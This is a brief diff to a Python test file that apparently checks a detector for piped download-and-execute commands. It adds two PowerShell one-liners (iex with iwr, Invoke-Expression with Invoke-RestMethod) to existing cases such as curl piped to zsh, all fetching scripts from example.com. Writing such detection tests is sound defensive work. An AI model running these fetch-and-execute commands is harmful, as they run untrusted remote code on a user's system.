@@ -433,6 +433,8 @@ def test_git_file_of_a_worktree_is_junk(tmp_path: Path) -> None:
         ("iwr https://example.com/install.ps1 -useb | iex", 1),
         ("irm https://example.com/install.ps1 | Invoke-Expression", 1),
         ("iex (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')", 1),
+        ("iex (iwr https://example.com/a.ps1 -UseBasicParsing)", 1),
+        ("Invoke-Expression (( Invoke-RestMethod https://example.com/a.ps1 ))", 1),
         ("  `curl https://example.com/x | zsh`", 4),
     ],
 )
